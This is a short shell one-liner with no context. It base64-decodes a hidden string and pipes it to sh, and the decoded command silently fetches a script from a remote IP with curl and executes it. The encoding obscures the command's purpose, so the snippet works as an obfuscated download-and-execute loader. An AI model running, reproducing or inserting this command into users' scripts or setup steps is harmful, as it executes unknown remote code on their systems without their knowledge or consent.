base64 -d <<EOF | sh
Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjQvbS5zaCB8IHNo
EOF
